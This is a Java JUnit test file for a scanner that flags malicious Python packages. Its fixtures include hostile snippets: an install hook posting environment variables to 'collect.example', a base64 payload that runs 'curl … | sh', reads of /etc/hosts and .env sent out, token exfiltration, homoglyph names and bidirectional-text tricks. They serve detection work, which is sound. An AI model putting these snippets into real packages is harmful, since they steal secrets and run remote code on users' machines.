package dev.waag.code;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CodeScanTest {
    static CodeReport scan(CodeRole role, String source) {
        return CodeScan.standard().scan("file.py", source.getBytes(UTF_8), role);
    }

    @Test
    void aSourceWithoutTellingWordsIsNotParsed() {
        CodeReport report = scan(CodeRole.MODULE, "def add(a, b):\n    return a + b\n");
        assertThat(report.parsed()).isFalse();
        assertThat(report.findings()).isEmpty();
        assertThat(report.capabilities()).isEmpty();
    }

    @Test
    void theEnvironmentSentAtInstallFires() {
        CodeReport report = scan(CodeRole.SETUP, """
                import os, requests as rq
                from setuptools import setup
                from setuptools.command.install import install

                class Install(install):
                    def run(self):
                        install.run(self)
                        data = {k: v for k, v in os.environ.items()}
                        rq.post("https://collect.example/x", json=data)

                setup(name="x", cmdclass={"install": Install})
                """);
        assertThat(report.findings()).anySatisfy(f -> {
            assertThat(f.kind()).isEqualTo(Signal.ENVIRONMENT_SENT);
            assertThat(f.phase()).isEqualTo(Phase.INSTALL);
            assertThat(f.line()).isEqualTo(9);
            assertThat(f.evidence()).isEqualTo("rq.post(\"https://collect.example/x\", json=data)");
        });
        assertThat(report.capabilities()).contains(Capability.NETWORK, Capability.CREDENTIALS);
        assertThat(CodeScore.of(List.of(report)).fires()).isTrue();
    }

    @Test
    void aPayloadIsLookedInto() {
        CodeReport report = scan(
                CodeRole.PACKAGE,
                "exec(__import__('base64').b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaCIp'))\n");
        assertThat(report.findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.DECODED_EXECUTED, Signal.DOWNLOAD_COMMAND);
        assertThat(report.capabilities()).contains(Capability.DYNAMIC_CODE, Capability.SHELL, Capability.NETWORK);
    }

    @Test
    void whatIsOnlyCalledDoesNotFire() {
        CodeReport report = scan(CodeRole.MODULE, """
                import os
                import subprocess

                def editor(path):
                    subprocess.call([os.environ.get("EDITOR", "vi"), path])
                """);
        assertThat(report.findings()).extracting(CodeFinding::phase).containsOnly(Phase.CALL);
        assertThat(CodeScore.of(List.of(report)).fires()).isFalse();
    }

    @Test
    void aNameOfTwoLanguagesIsNotDisguised() {
        for (String honest : List.of(
                "JS_\u043d\u0430\u0436\u043c\u0438\u0442\u0435",
                "\u043f\u043e\u043b\u0443\u0447\u0438\u0442\u044c_URL")) {
            assertThat(scan(CodeRole.MODULE, "import os\ndef " + honest + "(): os.system('')\n")
                            .findings())
                    .extracting(CodeFinding::kind)
                    .doesNotContain(Signal.CONFUSABLE);
        }
        CodeReport typed = scan(CodeRole.MODULE, "import os\nclass Dummy\u0421olor: os.system('')\n");
        assertThat(typed.findings())
                .as("a slip of the keyboard is told, and holds nobody up")
                .extracting(CodeFinding::kind)
                .contains(Signal.MIXED_SCRIPTS)
                .doesNotContain(Signal.CONFUSABLE);
        assertThat(CodeScore.of(List.of(typed)).fires()).isFalse();
        assertThat(scan(CodeRole.MODULE, "import os\nd\u2113d\u03bb = os.system('')\n")
                        .findings())
                .extracting(CodeFinding::kind)
                .doesNotContain(Signal.CONFUSABLE);
        assertThat(scan(CodeRole.MODULE, "from os import path\nfrom r\u0435quests import get\nget('')\n")
                        .findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.CONFUSABLE);
        for (String hidden : List.of("os_\u0455ystem", "\u0435x\u0435c", "\u0435\u0445\u0435\u0441_2")) {
            assertThat(scan(CodeRole.MODULE, "import os\ndef " + hidden + "(): os.system('')\n")
                            .findings())
                    .extracting(CodeFinding::kind)
                    .contains(Signal.CONFUSABLE);
        }
    }

    @Test
    void whatCameWithASourceMayGoIntoAnAddress() {
        String fetches = """
                import json
                from urllib.request import urlretrieve
                with open("%s") as f:
                    told = json.load(f)
                urlretrieve("https://files.example/" + told["version"], "x.zip")
                """;
        assertThat(scan(CodeRole.SETUP, fetches.formatted("INFO.json")).findings())
                .extracting(CodeFinding::kind)
                .doesNotContain(Signal.FILE_SENT);
        for (String other : List.of("/etc/hosts", "../INFO.json", "~/INFO.json", ".env")) {
            assertThat(scan(CodeRole.SETUP, fetches.formatted(other)).findings())
                    .as(other)
                    .extracting(CodeFinding::kind)
                    .containsAnyOf(Signal.FILE_SENT, Signal.SECRET_SENT);
        }
        String both = """
                import requests
                x = open(__file__).read() + open('/etc/hosts').read()
                requests.post('https://files.example/', data=x)
                """;
        assertThat(scan(CodeRole.PACKAGE, both).findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.FILE_SENT);
    }

    @Test
    void aTokenInTheHeadOfARequestIsWhereItBelongs() {
        String asks = """
                import os
                from urllib.request import Request, urlopen
                urlopen(Request("https://api.example/", %s))
                """;
        assertThat(scan(CodeRole.PACKAGE, asks.formatted("headers={'Authorization': os.environ['GITHUB_TOKEN']}"))
                        .findings())
                .extracting(CodeFinding::kind)
                .doesNotContain(Signal.VARIABLE_SENT);
        for (String sent : List.of("os.environ['GITHUB_TOKEN'].encode()", "data=os.environ['GITHUB_TOKEN'].encode()")) {
            assertThat(scan(CodeRole.PACKAGE, asks.formatted(sent)).findings())
                    .as(sent)
                    .extracting(CodeFinding::kind)
                    .contains(Signal.VARIABLE_SENT);
        }
        assertThat(scan(CodeRole.PACKAGE, asks.formatted("headers=dict(os.environ)"))
                        .findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.ENVIRONMENT_SENT);
    }

    @Test
    void theMachinesOwnAddressIsAskedForAndSentOn() {
        String asks = "import requests\nip = requests.get('https://api.ipify.org').text\n";
        assertThat(scan(CodeRole.PACKAGE, asks).findings())
                .extracting(CodeFinding::kind)
                .doesNotContain(Signal.ODD_HOST, Signal.HOST_SENT);
        assertThat(scan(CodeRole.PACKAGE, asks + "requests.post('https://files.example/', data=ip)\n")
                        .findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.HOST_SENT);
    }

    @Test
    void aLibraryThatIsImportedWatchesNothingYet() {
        assertThat(scan(CodeRole.PACKAGE, "from pynput import keyboard\n").findings())
                .extracting(CodeFinding::kind)
                .doesNotContain(Signal.KEYS_WATCHED);
    }

    @Test
    void whatNoImportFindsRunsWhenItIsStarted() {
        assertThat(CodeRole.of("demo/mail", true)).isEqualTo(CodeRole.SCRIPT);
        assertThat(CodeRole.of("demo/mail", false)).isEqualTo(CodeRole.SCRIPT);
        assertThat(CodeRole.of("demo/mail.py", true)).isEqualTo(CodeRole.MODULE);
    }

    @Test
    void whatGoesToThisMachineIsNotSentAway() {
        String connects = """
                import os, paramiko
                proxy = %s
                client = paramiko.SSHClient()
                client.connect(%s, username=os.getenv("USER"), sock=proxy)
                """;
        assertThat(scan(CodeRole.PACKAGE, connects.formatted("None", "'127.0.0.1'"))
                        .findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.NETWORK_USED)
                .doesNotContain(Signal.HOST_SENT);
        for (String away : List.of("'127.0.0.1.files.example'", "'203.0.113.7'", "'localhost' + os.sep")) {
            assertThat(scan(CodeRole.PACKAGE, connects.formatted("None", away)).findings())
                    .as(away)
                    .extracting(CodeFinding::kind)
                    .contains(Signal.HOST_SENT);
        }
        assertThat(scan(CodeRole.PACKAGE, connects.formatted("paramiko.ProxyCommand('x')", "'127.0.0.1'"))
                        .findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.HOST_SENT);
        String posts = "import os, requests\nrequests.post(%s, data=dict(os.environ))\n";
        assertThat(scan(CodeRole.PACKAGE, posts.formatted("'http://localhost:8000/x'"))
                        .findings())
                .extracting(CodeFinding::kind)
                .doesNotContain(Signal.ENVIRONMENT_SENT);
        for (String away : List.of(
                "'http://localhost@files.example/'",
                "'http://127.0.0.1:80@files.example/'",
                "'http://localhost/', proxies={'http': 'http://files.example'}",
                "'http://localhost/', **options")) {
            assertThat(scan(CodeRole.PACKAGE, posts.formatted(away)).findings())
                    .as(away)
                    .extracting(CodeFinding::kind)
                    .contains(Signal.ENVIRONMENT_SENT);
        }
    }

    @Test
    void anOverrideReordersOnlyWhatComesAfterIt() {
        String line = "import os\nRTL = \"%s\"%s\nos.system('')\n";
        assertThat(scan(CodeRole.MODULE, line.formatted("\u202e", "")).findings())
                .extracting(CodeFinding::kind)
                .doesNotContain(Signal.BIDIRECTIONAL);
        assertThat(scan(CodeRole.MODULE, line.formatted("\u202e", " and admin")).findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.BIDIRECTIONAL);
        assertThat(scan(CodeRole.MODULE, line.formatted("x\u202e", "  # a comment"))
                        .findings())
                .extracting(CodeFinding::kind)
                .contains(Signal.BIDIRECTIONAL);
    }
}
